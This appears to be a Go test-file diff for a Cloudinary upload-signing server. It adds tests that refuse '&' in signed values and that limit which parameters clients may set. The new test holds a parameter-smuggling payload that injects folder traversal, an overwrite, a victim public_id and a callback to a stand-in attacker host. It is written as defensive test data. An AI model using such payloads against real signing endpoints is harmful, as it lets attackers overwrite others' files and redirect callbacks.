@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"slices"
 	"sort"
 	"strings"
 	"testing"
@@ -68,7 +69,7 @@ func TestSignedDirectUploadAcceptedByCloudinary(t *testing.T) {
 	srv := startServer(t, env)
 	client := newClient(t)
 
-	resp := postSign(t, client, srv.url, token, `{"public_id":"direct/beach","tags":["summer","sea & sand"],"context":{"alt":"a|b=c","caption":"Beach"}}`)
+	resp := postSign(t, client, srv.url, token, `{"public_id":"direct/beach","tags":["summer","sea and sand"],"context":{"alt":"a|b=c","caption":"Beach"}}`)
 	var s signResponse
 	decodeBody(t, resp, &s)
 	if resp.StatusCode != http.StatusOK {
@@ -85,7 +86,7 @@ func TestSignedDirectUploadAcceptedByCloudinary(t *testing.T) {
 	}
 	for k, want := range map[string]string{
 		"folder": "site", "upload_preset": "signed_thumbs", "overwrite": "false", "public_id": "direct/beach",
-		"tags": "summer,sea & sand", "context": `alt=a\|b\=c|caption=Beach`,
+		"tags": "summer,sea and sand", "context": `alt=a\|b\=c|caption=Beach`,
 	} {
 		if got := s.Params[k]; got != want {
 			t.Errorf("params[%s] = %q, want %q", k, got, want)
@@ -236,7 +237,74 @@ func TestSignUsesConfiguredAlgorithm(t *testing.T) {
 		t.Errorf("err = %v, want signature_algorithm refused", err)
 	}
 	if _, err := loadConfig(mapGetenv(map[string]string{"CLOUD_NAME": "c", "API_KEY": "k", "API_SECRET": "s", "SIGNABLE_PARAMS": "public_id,folder,Bad Name"})); err == nil ||
-		!strings.Contains(err.Error(), `"folder" is set by the server`) || !strings.Contains(err.Error(), "bad name") {
+		!strings.Contains(err.Error(), `"folder" is not for clients: it chooses where the file goes`) || !strings.Contains(err.Error(), "bad name") {
 		t.Errorf("err = %v, want folder and the bad name refused", err)
+	}
+}
+
+// TestSignNeverSignsAnAmpersand: with signature_version=1, Cloudinary signs "context=alt=x&folder=…"
+// as it is, which is also the string of an upload that sends folder, notification_url, overwrite
+// and public_id as fields of their own. No value with '&' is signed, whatever the version; the
+// attack of the outside run, replayed against the fake, finds nothing to replay.
+func TestSignNeverSignsAnAmpersand(t *testing.T) {
+	const attack = `alt=x&folder=../admin&notification_url=https://evil.example/h&overwrite=true&public_id=victim`
+	for _, version := range []string{"1", "2"} {
+		t.Run("signature_version="+version, func(t *testing.T) {
+			fake := newFakeCloudinary(t)
+			env := baseEnv(t, fake)
+			env["CLOUDINARY_URL"] = fake.CloudinaryURL() + "&signature_version=" + version
+			srv := startServer(t, env)
+			client := newClient(t)
+			for _, body := range []string{
+				`{"context":"` + attack + `"}`,
+				`{"context":{"alt":"x&folder=../admin"}}`,
+				`{"tags":["a&folder=x"]}`,
+				`{"public_id":"a&b"}`,
+			} {
+				resp := postSign(t, client, srv.url, "", body)
+				var got apiErrorBody
+				decodeBody(t, resp, &got)
+				if resp.StatusCode != http.StatusBadRequest || !strings.Contains(got.Error.Message, "must not contain '&'") {
+					t.Errorf("%s: %d %q, want 400 naming the '&'", body, resp.StatusCode, got.Error.Message)
+				}
+			}
+			// The form of POST /upload takes the same parameters, through the same check.
+			ct, form := multipartBody(t, [][2]string{{"context", attack}}, "a.png", testPNG(t, 2, 2))
+			resp := postForm(t, client, srv.url, ct, bytes.NewReader(form))
+			var got apiErrorBody
+			decodeBody(t, resp, &got)
+			if resp.StatusCode != http.StatusBadRequest || !strings.Contains(got.Error.Message, "must not contain '&'") {
+				t.Errorf("POST /upload: %d %q, want 400 naming the '&'", resp.StatusCode, got.Error.Message)
+			}
+			if n := fake.RequestCount(); n != 0 {
+				t.Errorf("%d requests reached Cloudinary", n)
+			}
+		})
+	}
+}
+
+// TestSignableParamsIsAnAllowList: SIGNABLE_PARAMS may name only parameters that cannot choose
+// where a file goes, what it overwrites, or where Cloudinary calls back; each refusal says why.
+func TestSignableParamsIsAnAllowList(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct{ param, why string }{
+		{"use_filename", "overwrite another's file"},
+		{"unique_filename", "overwrite another's file"},
+		{"eager_notification_url", "call a URL"},
+		{"asset_folder", "where the file goes"},
+		{"public_id_prefix", "where the file goes"},
+		{"callback", "redirect to a URL"},
+		{"overwrite", "replaces other files"},
+		{"moderation", "not one of the parameters a client may set"},
+		{"some_future_param", "not one of the parameters a client may set"},
+	} {
+		_, err := loadConfig(mapGetenv(map[string]string{"SIGNABLE_PARAMS": "public_id,tags," + tc.param}))
+		if err == nil || !strings.Contains(err.Error(), `"`+tc.param+`"`) || !strings.Contains(err.Error(), tc.why) {
+			t.Errorf("SIGNABLE_PARAMS with %s: err = %v, want it refused with %q", tc.param, err, tc.why)
+		}
+	}
+	cfg, err := loadConfig(mapGetenv(map[string]string{"SIGNABLE_PARAMS": strings.Join(signableAllowed, ",")}))
+	if err != nil || !slices.Equal(cfg.signableParams, signableAllowed) {
+		t.Errorf("every allowed parameter: %v, %v", cfg.signableParams, err)
 	}
 }
